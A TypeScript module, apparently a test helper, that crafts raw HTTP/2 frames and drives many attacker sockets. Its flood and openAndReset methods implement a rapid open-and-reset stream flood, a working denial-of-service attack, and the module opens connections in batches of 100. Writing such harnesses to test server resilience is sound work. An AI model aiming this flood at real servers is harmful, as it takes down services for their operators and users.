import { connect, type Socket } from 'node:net';

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');

export const FRAMES = { headers: 1, reset: 3, settings: 4, ping: 6, continuation: 9 } as const;
const END_HEADERS = 4;
/** `:method POST`, `:scheme http`, `:path /a`, without names in a table. */
const BARE_HEADERS = Buffer.from([0x83, 0x86, 0x44, 2, 0x2f, 0x61]);

export function frame(
  type: number,
  flags: number,
  stream: number,
  payload: Buffer = Buffer.alloc(0),
): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** A socket of an attacker: what it sends is as it likes. */
export class Attacker implements Disposable {
  readonly socket: Socket;
  /** Of what it may go on sending for ever. */
  sentBytes = 0;
  #stream = 1;

  private constructor(socket: Socket) {
    this.socket = socket;
    socket.on('error', () => undefined);
    socket.resume();
  }

  static async connect(address: string): Promise<Attacker> {
    const colon = address.lastIndexOf(':');
    const socket = connect(Number(address.slice(colon + 1)), address.slice(0, colon));
    const attacker = new Attacker(socket);
    await new Promise((resolve) => socket.once('connect', resolve).once('close', resolve));
    return attacker;
  }

  get isClosed(): boolean {
    return this.socket.closed || this.socket.readyState !== 'open';
  }

  send(bytes: Buffer): boolean {
    this.sentBytes += bytes.length;
    return this.socket.write(bytes);
  }

  /** Begins HTTP/2 as a client does. */
  begin(): void {
    this.send(Buffer.concat([PREFACE, frame(FRAMES.settings, 0, 0)]));
  }

  /** Sends what `make` makes as fast as it is taken, up to `bytesMax`, until the connection ends. */
  async flood(make: () => Buffer, bytesMax: number): Promise<void> {
    while (!this.isClosed && this.sentBytes < bytesMax) {
      if (this.send(make())) continue;
      await new Promise((resolve) => this.socket.once('drain', resolve).once('close', resolve));
    }
  }

  /** A call that is opened and reset at once. */
  openAndReset(): Buffer {
    const stream = this.#stream;
    this.#stream += 2;
    return Buffer.concat([
      frame(FRAMES.headers, END_HEADERS, stream, BARE_HEADERS),
      frame(FRAMES.reset, 0, stream, Buffer.from([0, 0, 0, 8])),
    ]);
  }

  [Symbol.dispose](): void {
    this.socket.destroy();
  }
}

/** `count` sockets of attackers at a time. */
export async function attackers(count: number, address: string): Promise<Attacker[]> {
  const all: Attacker[] = [];
  for (let n = 0; n < count; n += 100) {
    const some = Array.from({ length: Math.min(100, count - n) }, () => Attacker.connect(address));
    all.push(...(await Promise.all(some)));
  }
  return all;
}
